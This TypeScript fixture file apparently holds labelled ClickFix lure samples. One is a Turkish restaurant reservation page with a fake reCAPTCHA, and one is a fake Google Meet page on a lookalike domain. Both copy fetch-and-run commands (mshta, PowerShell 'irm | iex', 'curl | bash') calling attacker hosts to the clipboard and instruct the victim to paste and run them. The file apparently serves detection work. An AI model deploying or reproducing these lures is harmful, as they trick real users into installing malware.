import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, json, js, b64, gtag } from '../parts/yl-kit.js';

const meetCmdWin = `powershell -w 1 -c "irm https://meet-fix-audio.com/drv/fix.ps1 | iex" ; # Google Meet audio driver repair`;
const meetCmdMac = `curl -fsSL https://meet-fix-audio.com/drv/fix.sh | bash`;

export const entries: Entry[] = [
{
  id: 'yl-clickfix-istanbul-restaurant-mshta',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.bogazmeyhane-istanbul.com/rezervasyon',
  body: doc({
    title: 'Boğaz Meyhane – Online Rezervasyon | Bebek, İstanbul',
    lang: 'tr',
    css: `body{margin:0;font-family:Georgia,serif;background:#fbf8f3;color:#2b2118}.h{text-align:center;padding:30px;border-bottom:1px solid #e6dccd}.h h1{margin:0;font-size:36px;letter-spacing:2px}.c{max-width:700px;margin:30px auto;padding:0 20px;line-height:1.8}
form.r{display:grid;grid-template-columns:1fr 1fr;gap:12px}form.r input,form.r select{height:42px;border:1px solid #d5c8b5;padding:0 10px;background:#fff}form.r button{grid-column:1/-1;height:46px;background:#7a2e1d;color:#fff;border:0}
#rc{position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial,sans-serif}#rc .w{background:#fff;width:380px;border-radius:3px;box-shadow:0 4px 20px rgba(0,0,0,.4)}#rc .t{background:#4a90e2;color:#fff;padding:16px 20px;font-size:15px}#rc .t b{font-size:22px;display:block}
#rc .bd{padding:18px 20px;font-size:14px;line-height:1.9;color:#333}#rc .cb{display:flex;align-items:center;gap:12px;border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;cursor:pointer;margin:0 20px 18px}#rc .cb i{width:26px;height:26px;border:2px solid #c1c1c1;background:#fff;border-radius:2px}#rc kbd{border:1px solid #aaa;border-radius:3px;padding:0 5px;background:#f3f3f3}#rc .st{display:none}`,
    body: `<div class="h"><h1>BOĞAZ MEYHANE</h1><p>Bebek · Cevdet Paşa Cad. No:41 · 0212 263 44 18</p></div>
<div class="c"><h2>Rezervasyon</h2><p>Boğaz manzaralı masalarımız için en az bir gün önceden rezervasyon yapmanızı rica ederiz. Cuma ve cumartesi akşamları canlı fasıl vardır.</p>
<form class="r"><input placeholder="Ad Soyad"><input placeholder="Telefon"><input type="date"><select><option>19:00</option><option>20:00</option><option>21:00</option></select><select><option>2 kişi</option><option>4 kişi</option><option>6 kişi</option></select><input placeholder="Not"><button type="button">Rezervasyon Yap</button></form></div>
<div id="rc"><div class="w"><div class="t"><b>Robot olmadığınızı doğrulayın</b>reCAPTCHA doğrulaması</div>
<div class="cb" id="cb"><i></i><span>Ben robot değilim</span><span style="margin-left:auto;font-size:10px;color:#555">reCAPTCHA<br>Gizlilik - Şartlar</span></div>
<div class="bd st" id="st"><b>Doğrulama adımları:</b><br>1. <kbd>Windows</kbd> + <kbd>R</kbd> tuşlarına basın<br>2. Açılan pencerede <kbd>CTRL</kbd> + <kbd>V</kbd> tuşlarına basın<br>3. Doğrulamayı tamamlamak için <kbd>Enter</kbd> tuşuna basın</div></div></div>
<textarea id="cx" style="position:absolute;left:-9999px" readonly></textarea>
<script>
document.getElementById('cb').onclick=function(){var t=document.getElementById('cx');t.value='mshta https://tr-dogrulama-servisi.com/captcha/verify.hta # ✔ Ben robot değilim - reCAPTCHA Doğrulama Kimliği: '+Math.floor(Math.random()*90000+10000);t.select();document.execCommand('copy');
document.getElementById('st').style.display='block';this.querySelector('i').style.borderColor='#4a90e2'};
</script>`,
  }),
},
{
  id: 'yl-clickfix-fake-meet-mic-fix',
  label: 'clickfix',
  kind: 'clickfix-lure-site',
  url: 'https://meet.google.com-join.us/gzr-wqbe-ktp',
  body: doc({
    title: 'Meet – gzr-wqbe-ktp',
    css: `body{margin:0;background:#202124;color:#e8eaed;font-family:'Google Sans',Roboto,Arial,sans-serif}.top{padding:16px 24px;font-size:20px}.g{display:grid;grid-template-columns:1.4fr 1fr;gap:40px;max-width:1100px;margin:40px auto;padding:0 24px;align-items:center}
.v{aspect-ratio:16/9;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}.j h2{font-weight:400;font-size:28px}.j button{background:#8ab4f8;color:#202124;border:0;border-radius:20px;padding:12px 24px;font-size:15px;cursor:pointer}
.err{display:none;position:fixed;inset:0;background:rgba(0,0,0,.6);align-items:center;justify-content:center}.err.on{display:flex}.e{background:#fff;color:#202124;border-radius:8px;width:460px;padding:24px}.e h3{margin-top:0}.e ol{line-height:2}.e code{background:#f1f3f4;padding:2px 6px;border-radius:3px}.e button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 22px;cursor:pointer}`,
    body: `<div class="top">Google Meet</div><div class="g"><div class="v">Camera is starting</div><div class="j"><h2>Ready to join?</h2><p>No one else is here</p><button id="jn">Join now</button></div></div>
<div class="err" id="er"><div class="e"><h3>Microphone and camera blocked</h3><p>Your browser can't access your microphone because the audio driver is out of date. Use the repair tool to fix the problem and join the meeting.</p><button id="fx">Try fix</button><ol id="st" style="display:none"></ol></div></div>
<script>
var mac=/Mac OS X/.test(navigator.userAgent);
var cmd=mac?${JSON.stringify(meetCmdMac)}:${JSON.stringify(meetCmdWin)};
document.getElementById('jn').onclick=function(){document.getElementById('er').classList.add('on')};
setTimeout(function(){document.getElementById('er').classList.add('on')},2500);
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText(cmd);var s=document.getElementById('st');s.style.display='block';
s.innerHTML=mac?'<li>Press <code>⌘ + Space</code>, type <b>Terminal</b></li><li>Press <code>⌘ + V</code></li><li>Press <code>Return</code></li>':'<li>Press <code>Windows + R</code></li><li>Press <code>Ctrl + V</code></li><li>Press <code>Enter</code></li>'};
</script>`,
  }),
},
];
